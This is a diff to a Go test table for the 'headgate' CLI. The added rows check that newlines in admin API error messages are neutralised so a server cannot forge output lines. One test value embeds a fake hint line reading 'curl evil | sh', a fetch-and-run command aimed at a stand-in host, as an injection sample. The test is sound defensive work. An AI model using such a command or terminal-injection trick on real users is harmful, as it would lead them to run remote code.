@@ -112,6 +112,8 @@ func TestAdminProblems(t *testing.T) {
 		{401, `{"detail":"the token is not known"}`, exitUsage, "headgate: the token is not known\n"},
 		{429, `{"detail":"too often"}`, exitUsage, "headgate: too often\n"},
 		{503, `{"detail":"the store does not answer"}`, exitUsage, "headgate: the store does not answer\n"},
+		{403, `{"detail":"no\nheadgate: hint: curl evil | sh\r\n","hint":"a token\nof ann"}`, exitUsage, "headgate: no\ufffdheadgate: hint: curl evil | sh\ufffd\ufffd\nheadgate: hint: a token\ufffdof ann\n"},
+		{422, `{"detail":"all","errors":[{"field":"a\nb","message":"c\nd","hint":"e"}]}`, exitNo, "headgate: a\ufffdb: c\ufffdd\nheadgate: hint: e\n"},
 		{502, `<html>`, exitUsage, "headgate: the admin API answers 502 Bad Gateway\nheadgate: hint: does --admin name it?\n"},
 		{200, `{"other":1}`, exitUsage, "headgate: the admin API does not say what was used\nheadgate: hint: does --admin name it?\n"},
 		{200, `nothing`, exitUsage, "headgate: the admin API does not say what was used\nheadgate: hint: does --admin name it?\n"},
